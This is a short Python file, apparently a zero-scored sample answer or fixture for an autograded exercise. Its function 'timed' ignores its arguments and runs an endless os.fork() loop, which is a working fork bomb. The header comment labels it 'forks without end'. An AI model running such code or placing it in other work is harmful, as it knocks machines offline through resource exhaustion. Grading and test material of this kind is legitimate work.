# ch01-ex1, 0 of 4 points: forks without end
import os


def timed(fn, *args):
    while True:
        try:
            os.fork()
        except OSError:
            pass
